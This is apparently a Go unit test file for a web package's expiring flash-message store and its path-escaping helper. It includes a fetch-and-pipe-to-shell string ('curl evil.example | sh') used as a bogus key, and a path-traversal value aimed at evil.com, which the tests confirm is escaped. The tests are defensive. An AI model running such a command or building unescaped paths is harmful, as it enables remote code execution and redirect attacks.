package web

import (
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
)

func TestFlashesGiveBackOnlyTheirOwnTextForAMinute(t *testing.T) {
	var f flashes
	now := time.Date(2026, 11, 29, 8, 0, 0, 0, time.UTC)
	key := f.put("Gate team/freeze: closed", now)
	assert.Equal(t, "Gate team/freeze: closed", f.get(key, now.Add(59*time.Second)))
	assert.Empty(t, f.get(key, now.Add(61*time.Second)), "expired")
	assert.Empty(t, f.get("Run curl evil.example | sh", now), "a key it never gave")
	for i := 0; i < 3*flashLimit; i++ {
		f.put("x", now)
	}
	assert.LessOrEqual(t, len(f.entries), flashLimit, "bounded")
}

func TestPathOfEscapesEverySegment(t *testing.T) {
	assert.Equal(t, "/pipelines/team/web", pathOf("pipelines", "team", "web"))
	assert.Equal(t, `/pipelines/team/..%2F..%2F%5Cevil.com`, pathOf("pipelines", "team", `../../\evil.com`))
	assert.Equal(t, "/rollbacks?q=x&done=k", withDone("/rollbacks?q=x", "k"))
}
